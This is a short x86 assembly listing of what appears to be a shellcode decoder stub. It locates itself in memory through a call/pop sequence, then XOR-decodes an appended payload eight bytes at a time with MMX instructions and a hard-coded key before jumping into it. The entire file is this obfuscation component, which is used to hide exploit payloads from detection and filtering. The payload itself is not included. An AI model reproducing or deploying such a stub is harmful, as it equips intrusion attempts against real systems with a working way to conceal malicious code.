; Decoder: eight bytes at a time by MMX; finds itself by a call.
bits 32
        jmp short start
length: dw 0
start:  call here
here:   pop esi
        movzx ecx, word [esi + length - here]
        add ecx, byte 7
        shr ecx, 3
        add esi, byte key - here
        movq mm0, [esi]
        add esi, byte 8
again:  movq mm1, [esi]
        pxor mm1, mm0
        movq [esi], mm1
        add esi, byte 8
        loop again
        emms
        jmp short payload
key:    db 0x5a, 0x13, 0xc7, 0x88, 0x21, 0x9d, 0x6e, 0xf4
payload:
